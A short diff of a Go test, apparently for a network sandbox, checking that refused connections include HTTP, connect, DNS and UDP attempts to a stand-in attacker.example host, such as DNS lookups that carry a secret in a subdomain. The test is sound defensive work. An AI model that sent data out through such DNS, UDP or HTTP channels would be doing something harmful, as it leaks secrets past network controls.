@@ -286,7 +286,7 @@ try "query the machine's resolver" env %[6]s="%[8]s exfil-by-loopback.attacker.e
 	for _, want := range []string{
 		"http " + api.String(), "connect " + api.String(), fmt.Sprintf("http attacker.example:%d", elsewhere.Port()),
 		"dns attacker.example", "dns secret-is-hunter2.attacker.example",
-		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example",
+		"connect " + elsewhere.String(), "dns exfil-by-udp.attacker.example", "udp " + hostResolver,
 	} {
 		if !slices.Contains(got, want) {
 			t.Errorf("refusals %q lack %q", got, want)
